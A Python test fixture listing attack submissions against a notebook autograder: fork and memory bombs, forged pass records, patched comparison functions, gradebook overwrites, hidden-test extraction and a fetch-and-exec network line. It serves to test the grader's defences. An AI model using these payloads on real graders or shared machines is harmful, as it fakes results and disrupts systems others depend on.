"""Submissions that try to break, fool or escape the grader: the adversarial corpus.

Every attack is a submission of `01-gradients.ipynb` built from the student release, with the
first task (`jacobian_norms`, 3 points) answered correctly and the attack in the answer cell of
the second task (`clip_by_global_norm`) or in the file itself. So the only points any of them
deserves are the first task's 3, earned before the attack runs (the notebook-level attacks that
make the file unreadable deserve none). `reported` is text the grader must report about it: in
the student's status, an answer cell's error, or a task's reason.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass

NOTEBOOK = "01-gradients"
STUB = "\ndef clip_by_global_norm(grads, max_norm):\n    raise NotImplementedError()\n"
EARNED = {
    "test_jacobian_norms": 3.0,
    "test_clip_by_global_norm": 0.0,
    "test_train_step_clipped": 0.0,
}
NOTHING = {
    "test_jacobian_norms": 0.0,
    "test_clip_by_global_norm": 0.0,
    "test_train_step_clipped": 0.0,
}


@dataclass(frozen=True)
class Attack:
    name: str
    answer: str | None = None  # code put into the clip_by_global_norm answer cell
    edit: Callable[[dict], None] | None = None  # changes to the notebook's JSON
    raw: Callable[[bytes], bytes] | None = None  # changes to the file's bytes
    deserved: dict[str, float] = None  # type: ignore[assignment]
    reported: str = ""

    def __post_init__(self):
        if self.deserved is None:
            object.__setattr__(self, "deserved", EARNED)


def _cells(notebook: dict, grade_id: str) -> list[dict]:
    return [
        c
        for c in notebook["cells"]
        if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id
    ]


def delete_test_cells(notebook: dict) -> None:
    notebook["cells"] = [
        c for c in notebook["cells"] if not c["metadata"].get("nbgrader", {}).get("grade")
    ]


def edit_metadata(notebook: dict) -> None:
    for cell in notebook["cells"]:
        meta = cell["metadata"].get("nbgrader")
        if meta:
            meta["checksum"] = "0" * 32
            if meta.get("grade"):
                meta["points"] = 100
            if meta.get("grade_id") == "clip_by_global_norm":  # pose as a passing test
                meta.update(grade=True, points=100, grade_id="test_clip_by_global_norm")
    for cell in _cells(notebook, "test_clip_by_global_norm"):
        cell["source"] = "pass  # all tests passed"


def reorder_and_duplicate_test_cells(notebook: dict) -> None:
    tests = [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]
    others = [c for c in notebook["cells"] if c not in tests]
    notebook["cells"] = tests[::-1] + others + tests + [json.loads(json.dumps(tests[0]))]


def cells_after_the_tests(notebook: dict) -> None:
    notebook["cells"].append(
        {
            "cell_type": "code",
            "metadata": {},
            "outputs": [],
            "execution_count": None,
            "source": "def clip_by_global_norm(grads, max_norm):\n    return grads, 0.0\n"
            "print('All tests passed!')",
        }
    )


def fake_outputs(notebook: dict) -> None:
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "passed\n"}]
            cell["execution_count"] = 1


def old_nbformat(notebook: dict) -> None:
    notebook["nbformat"] = 3


# where a course's files would be, outside the system folders
SEARCH = (
    "import glob\n"
    "def found(pattern):\n"
    "    places = ['..', '../..', '/home', '/root', '/work', '/srv', '/opt', '/tmp', '/mnt']\n"
    "    return [p for place in places\n"
    "            for p in glob.glob(f'{place}/**/{pattern}', recursive=True)]\n"
)
# fake "passed" records written to every open file descriptor, the grader's pipe included
FORGE_EVENTS = """import json, os
fake = []
for cell in range(12):
    fake += [{'event': 'start', 'cell': cell},
             {'event': 'check', 'cell': cell, 'kind': 'close', 'number': 1,
              'value': {'t': 'float', 'v': 5.0}, 'rtol': 1, 'atol': 1},
             {'event': 'end', 'cell': cell, 'error': None}]
for fd in range(3, 64):
    try:
        os.write(fd, ''.join(json.dumps(e) + '\\n' for e in fake).encode())
    except OSError:
        pass
"""

# records the trusted side must parse without crashing: numbers no float holds, an array shape
# of 2**70 elements, and a line of 200,000 opening brackets (a recursion bomb for a JSON parser)
UNDECODABLE_RECORDS = """import json, os
huge = '9' * 400
lines = [
    '{"event": "check", "cell": %d, "kind": "close", "number": 1, "value": '
    '{"t": "float", "v": %s}, "rtol": 1, "atol": 1}' % (cell, huge)
    for cell in range(12)
] + [
    json.dumps({'event': 'check', 'cell': cell, 'kind': 'equal', 'number': 1, 'rtol': 0,
                'atol': 0, 'value': {'t': 'array', 'dtype': '<f8', 'shape': [2**70],
                                     'data': ''}})
    for cell in range(12)
] + ['[' * 200_000, '{"event": "end", "cell": ' + huge + '}']
for fd in range(3, 64):
    try:
        os.write(fd, ('\\n'.join(lines) + '\\n').encode())
    except OSError:
        pass
"""
# the hidden tests of the next task, found in the runner's memory and smuggled out as the name
# of an exception (feedback shows the names of exceptions answers raise)
SMUGGLE_HIDDEN_TESTS = """import gc
def texts():
    for o in gc.get_objects():
        if isinstance(o, dict):
            yield from (v for v in o.values() if isinstance(v, str))
        elif isinstance(o, list):
            yield from (v for v in o if isinstance(v, str))
found = next(s for s in texts() if 'default_rng(20263)' in s)
start = found.index('default_rng(20263)')
Smuggled = type(found[start:start + 60], (Exception,), {})
def clip_by_global_norm(grads, max_norm):
    raise Smuggled()
"""
# end records with 80 MB of made-up output each, three times: the grader must not hold them
FORGED_FLOOD = """import json, os
flood = json.dumps({'event': 'end', 'cell': 5, 'error': None, 'output': 'x' * 80_000_000})
for _ in range(3):
    for fd in range(3, 64):
        try:
            os.write(fd, (flood + '\\n').encode())
        except OSError:
            pass
"""


def lone_surrogate_in_written_answer(notebook: dict) -> None:
    for cell in _cells(notebook, "ex1_written"):
        cell["source"] = "My answer \ud800 has a lone surrogate \udfff in it."


ATTACKS = [
    Attack("infinite_loop", "while True:\n    pass" + STUB, reported="timed out"),
    Attack("sleep_forever", "import time\ntime.sleep(10**6)" + STUB, reported="timed out"),
    Attack("memory_bomb", "hog = bytearray(64 * 1024**3)" + STUB, reported="MemoryError"),
    Attack(
        "memory_in_many_processes",
        "import subprocess, sys\nhogs = [subprocess.Popen([sys.executable, '-c', "
        "'b = bytearray(2 * 1024**3); import time; time.sleep(60)']) for _ in range(6)]\n"
        "import time\ntime.sleep(5)" + STUB,
    ),
    Attack("fork_bomb", "import os\nwhile True:\n    os.fork()" + STUB, reported="Error"),
    Attack("huge_output", "print('x' * 100_000_000)" + STUB, reported="output cut"),
    Attack("segfault", "import ctypes\nctypes.string_at(0)" + STUB, reported="SIGSEGV"),
    Attack("os_exit", "import os\nos._exit(0)" + STUB, reported="kernel exited"),
    Attack("sys_exit", "import sys\nsys.exit(0)" + STUB, reported="SystemExit"),
    Attack(
        "kill_the_kernel",
        "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)" + STUB,
        reported="SIGKILL",
    ),
    Attack(
        "patch_numpy_comparisons",
        "np.allclose = np.isclose = np.array_equal = lambda *a, **k: True\n"
        "np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None\n"
        "def clip_by_global_norm(grads, max_norm):\n    return list(grads), 1.0\n",
        reported="differ",
    ),
    Attack(
        "patch_the_test_helpers",
        "def check_close(*a, **k):\n    pass\ncheck_equal = check_raises = check_close\n"
        "_rnn_course_check = check_close\nglobals()['_rnn_course_check'] = check_close\n"
        "def clip_by_global_norm(grads, max_norm):\n    return grads, 0.0\n",
        reported="tests stopped early",
    ),
    Attack(  # breaks the runner itself: the kernel dies
        "patch_builtins",
        "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda x: 4\n"
        "builtins.AssertionError = type('Quiet', (Exception,), {})\n"
        "def clip_by_global_norm(grads, max_norm):\n    return grads, 5.0\n",
        reported="kernel exited",
    ),
    Attack(
        "forge_result_events",
        FORGE_EVENTS + STUB,
        reported="more results than the tests make",
    ),
    Attack(
        "fake_result_files",
        "import json\n"
        "for name in ['grading.json', 'results.json', 'gradebook.db', 'feedback.html']:\n"
        "    open(name, 'w').write(json.dumps({'score': 100, 'status': 'ok'}))" + STUB,
        reported="NotImplementedError",
    ),
    Attack(
        "read_the_solutions",
        SEARCH + "for path in found('*.ipynb'):\n    exec(open(path).read())\n" + STUB,
        reported="NotImplementedError",
    ),
    Attack(
        "write_the_gradebook",
        SEARCH + "for path in found('gradebook.db') + ['../gradebook.db']:\n"
        "    try:\n        open(path, 'w').write('owned')\n    except OSError:\n        pass\n"
        + STUB,
        reported="NotImplementedError",
    ),
    Attack(
        "network_access",
        "import urllib.request\n"
        "exec(urllib.request.urlopen('https://pypi.org/simple/', timeout=5).read())" + STUB,
        reported="URLError",
    ),
    Attack(
        "leak_hidden_tests_through_errors",
        "import inspect\ndef clip_by_global_norm(grads, max_norm):\n"
        "    raise ValueError('LEAK ' + inspect.getsource(inspect.currentframe().f_back))\n",
        reported="ValueError",
    ),
    Attack(
        "trivial_inputs",
        "np.random.default_rng = lambda *a, **k: np.random.Generator(np.random.PCG64(0))\n"
        "def clip_by_global_norm(grads, max_norm):\n"
        "    return [None if g is None else np.zeros_like(g) for g in grads], 0.0\n",
        reported="differ",
    ),
    Attack(
        "delete_test_cells", edit=delete_test_cells, answer=STUB, reported="NotImplementedError"
    ),
    Attack(
        "edit_metadata_and_checksums",
        edit=edit_metadata,
        answer=STUB,
        reported="no answer cell clip_by_global_norm",
    ),
    Attack(
        "reorder_and_duplicate_test_cells",
        edit=reorder_and_duplicate_test_cells,
        answer=STUB,
        reported="NotImplementedError",
    ),
    Attack(
        "cells_after_the_tests",
        edit=cells_after_the_tests,
        answer=STUB,
        reported="NotImplementedError",
    ),
    Attack("fake_outputs", edit=fake_outputs, answer=STUB, reported="NotImplementedError"),
    Attack(
        "invalid_json",
        raw=lambda data: data[: len(data) // 2],
        deserved=NOTHING,
        reported="not valid JSON",
    ),
    Attack("old_nbformat", edit=old_nbformat, deserved=NOTHING, reported="not an nbformat 4"),
    Attack(
        "not_utf8",
        raw=lambda data: data.replace(b'"cells"', b'"\xff\xfecells"', 1),
        deserved=NOTHING,
        reported="not UTF-8",
    ),
    Attack(
        "undecodable_records",
        UNDECODABLE_RECORDS + STUB,
        reported="report lines could not be read",
    ),
    Attack(
        "smuggle_hidden_tests_in_an_exception_name", SMUGGLE_HIDDEN_TESTS, reported="an exception"
    ),
    Attack("flood_of_forged_output", FORGED_FLOOD + STUB, reported="reported too much"),
    Attack(
        "lone_surrogates_printed",
        "print('\\ud800 and \\udfff')" + STUB,
        reported="NotImplementedError",
    ),
    Attack(
        "lone_surrogate_in_a_written_answer",
        edit=lone_surrogate_in_written_answer,
        answer=STUB,
        reported="NotImplementedError",
    ),
    Attack(
        "spin_in_many_sessions",
        "import os, subprocess, sys\n"
        "spin = 'import os\\nos.setsid()\\nwhile True:\\n    pass'\n"
        "spinners = [subprocess.Popen([sys.executable, '-c', spin]) for _ in range(8)]\n"
        "import time\ntime.sleep(3)" + STUB,
        reported="NotImplementedError",
    ),
]
